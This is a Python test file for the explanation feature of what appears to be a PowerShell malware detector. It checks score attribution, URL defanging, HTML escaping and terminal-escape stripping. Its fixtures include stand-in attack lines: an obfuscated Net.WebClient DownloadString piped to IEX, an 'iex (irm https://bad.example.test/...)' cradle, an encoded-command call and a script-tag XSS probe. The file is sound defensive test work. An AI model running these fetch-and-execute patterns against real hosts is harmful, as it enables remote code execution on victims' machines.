"""Explanations cover the text, find what drives the score, and show nothing live."""

import io
import itertools
import re
import sys

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from psembed.cli import main
from psembed.detector import detector, explain
from psembed.detector.neighbours import Neighbour
from psembed.detector.verdict import LayerScore, Verdict
from psembed.runtime.errors import ParameterError

TEXT = (
    "Get-Service | Where-Object { $_.Status -eq 'Running' } | Export-Csv services.csv; "
    "Invoke-Evil http://bad.example.test/payload; "
    "foreach ($name in Get-Content names.txt) { Write-Output $name; Start-Sleep 1 }; Get-Date"
)


class Planted:
    """A detector whose log-odds gain 3 by one planted word and lose 2 by another."""

    threshold = 0.5

    def nearest(self, clean):
        return [Neighbour("ab" * 32, "a-source", 1, 7, 0.97)]

    def score_clean(self, texts):
        odds = [1.0 + 3.0 * ("Invoke-Evil" in text) - 2.0 * ("Get-Date" in text) for text in texts]
        return (1 / (1 + np.exp(-np.array(odds)))).astype(np.float32)


@pytest.fixture
def explained():
    (score,) = Planted().score_clean([TEXT]).tolist()
    layers = (LayerScore("script", -1, 0, len(TEXT), score),)
    verdict = Verdict("a.ps1", "00", "ascii", score, True, 0, layers, TEXT)
    return explain.explain(Planted(), verdict)


def test_pieces_cover_the_text_once_from_left_to_right(explained):
    places = [(piece.start, piece.end) for piece in explained.pieces]
    assert places[0][0] == 0 and places[-1][1] == len(TEXT)
    assert all(one[1] == other[0] for one, other in itertools.pairwise(places))


def test_the_planted_word_weighs_what_it_adds_and_others_nothing(explained):
    weights = {TEXT[piece.start : piece.end].strip(): piece.weight for piece in explained.pieces}
    planted = next(weight for text, weight in weights.items() if "Invoke-Evil" in text)
    clean = next(weight for text, weight in weights.items() if "Get-Date" in text)
    assert planted == pytest.approx(3.0, abs=0.02) and clean == pytest.approx(-2.0, abs=0.02)
    assert sum(abs(weight) > 0.02 for weight in weights.values()) == 2


def test_leaving_out_the_heaviest_first_beats_a_random_order(explained):
    ours = explain.deletion_curve(Planted(), explained)
    random = [explain.deletion_curve(Planted(), explained, seed=seed) for seed in range(20)]
    assert len(ours) == len(explained.pieces) + 1 and ours[0] == pytest.approx(explained.score)
    assert ours.mean() < np.mean([curve.mean() for curve in random]) - 0.1
    assert {round(float(curve[0] - ours[0]), 6) for curve in random} == {0.0}


def test_nothing_live_is_shown(explained):
    for shown in (explained.to_terminal(), explained.to_text(), explained._repr_html_()):
        assert "http://" not in shown and "bad.example.test" not in shown
        assert "Invoke-Evil" in shown
    assert TEXT[:5] not in repr(explained)
    for shown in (explained.to_terminal(), explained.to_text(), explained._repr_html_()):
        assert "like 0.97  malicious, a-source, 7 scripts such as abababababababab" in shown
    assert explained.to_text().splitlines()[0].startswith("  +2.99")


@pytest.fixture
def score_explained(tmp_path, monkeypatch):
    """Run the command on TEXT, convicted by an address with what clears a screen; return its output."""
    text = TEXT.replace("/payload", "/payload\033[2J")

    class Judging(Planted):
        def score_clean(self, texts):
            return np.array([0.9 if "payload" in text else 0.1 for text in texts], dtype=np.float32)

        def judge(self, items, **asked):
            (score,) = self.score_clean([text]).tolist()
            layers = (LayerScore("script", -1, 0, len(text), score),)
            return [Verdict(item.name, "00", "ascii", score, True, 0, layers, text) for item in items]

    def run(*options, terminal):
        class Output(io.StringIO):
            def isatty(self):
                return terminal

        (tmp_path / "a.ps1").write_text(text)
        monkeypatch.setattr(detector, "released", Judging)
        monkeypatch.setattr(sys, "stdout", Output())
        assert main.main(["score", str(tmp_path / "a.ps1"), "--explain", *options]) == 1
        return sys.stdout.getvalue()

    return run


def test_a_terminal_gets_colours_and_nothing_else_does(score_explained, tmp_path):
    coloured = score_explained(terminal=True)
    reddest = re.search(r"\033\[30;48;5;196m(.*?)\033\[0m", coloured)
    assert "hxxp://bad[.]example[.]test" in reddest[1]
    assert "\033" not in re.sub(r"\033\[(30;48;5;\d+|0)m", "", coloured)
    assert "\033" not in score_explained(terminal=False)
    assert score_explained("--output", str(tmp_path / "why.txt"), terminal=True) == ""
    assert "\033" not in (tmp_path / "why.txt").read_text()


@pytest.mark.parametrize("terminal", [True, False])
def test_the_command_shows_nothing_live(score_explained, terminal):
    shown = score_explained(terminal=terminal)
    assert "http://" not in shown and "bad.example.test" not in shown
    assert "hxxp://bad[.]example[.]test" in shown


def test_nothing_is_marked_where_nothing_raises_the_score():
    pieces = (explain.Piece(0, 3, -2.0), explain.Piece(3, 6, -0.1), explain.Piece(6, 9, 0.25))
    told = explain.Explanation(0.1, 0.5, 0, "script", "abcdefghi", pieces)
    assert [share for _, share in told.shades()] == [0.0, 0.0, 0.25]


def test_what_is_read_of_layers_is_explained_beside_the_script():
    read = "powershell -enc AAAA; Get-Date\nInvoke-Evil now; Get-Service"
    (score,) = Planted().score_clean([read]).tolist()
    layers = (LayerScore("script", -1, 0, 30, 0.2), LayerScore("-EncodedCommand", 0, 1, 29, 0.98))
    found = explain.explain(
        Planted(), Verdict("a", score=score, malicious=True, layer=1, layers=layers, read=read)
    )
    weights = {read[piece.start : piece.end].strip(): round(piece.weight, 1) for piece in found.pieces}
    assert (found.score, found.layer, found.how, found.text) == (score, 1, "-EncodedCommand", read)
    assert weights["Invoke-Evil"] == 3 and weights["Get-Date"] == -2
    assert "layer 1: -EncodedCommand" in found._repr_html_()


def test_html_is_escaped():
    text = "<script>alert(1)</script> Invoke-Evil"
    layers = (LayerScore("script", -1, 0, len(text), 0.9),)
    found = explain.explain(
        Planted(), Verdict("a", score=0.9, malicious=True, layer=0, layers=layers, read=text)
    )
    assert "<script>" not in found._repr_html_() and "&lt;script&gt;" in found._repr_html_()


def test_a_long_word_and_an_empty_text_are_pieces_too():
    assert explain._grouped([], 4) == []
    assert explain._grouped(explain._words("x" * 5000), 40) == [(0, 5000)]
    words = explain._words("a b c d e f g h")
    assert explain._grouped(words, 4) == [(0, 4), (4, 8), (8, 12), (12, 15)]


WORD = re.compile(r"\S*://\S*\s*|[^\s;|{}()]*[\s;|{}()]+|[^\s;|{}()]+")  # in one expression, but quadratic


PARTS = st.sampled_from([*"ab:/;|(){} \n\t\u00a0\0", "://", "a://b", "; ", "} ;"])


@settings(max_examples=1_000)
@given(st.data(), st.lists(PARTS).map("".join))
def test_words_are_those_of_one_expression(data, text):
    start = data.draw(st.integers(0, len(text)))
    end = data.draw(st.integers(start, len(text)))
    assert explain._words(text, start, end) == [word.span() for word in WORD.finditer(text, start, end)]


def test_an_address_is_never_cut():
    text = "iex (irm https://bad.example.test/a;b(c)|d)"
    assert [text[start:end] for start, end in explain._words(text)][-1].startswith("https://")


def test_what_has_no_score_has_no_explanation():
    with pytest.raises(ParameterError, match="binary data"):
        explain.explain(Planted(), Verdict("a.exe", reason="binary data, not a script"))


def test_the_released_detector_is_explained_faithfully():
    """An inert stand-in of a downloader between lines of administration."""
    from psembed.detector.detector import Detector

    detector = Detector.load()
    script = TEXT.replace(
        "Invoke-Evil http://bad.example.test/payload",
        "$c=New-Object Net.WebClient;IEX $c.('Downl'+'oadStr'+'ing').Invoke('http://example.test/a.txt')",
    )
    found = explain.explain(detector, script)
    random = np.mean([explain.deletion_curve(detector, found, seed=seed).mean() for seed in range(10)])
    assert explain.deletion_curve(detector, found).mean() < random
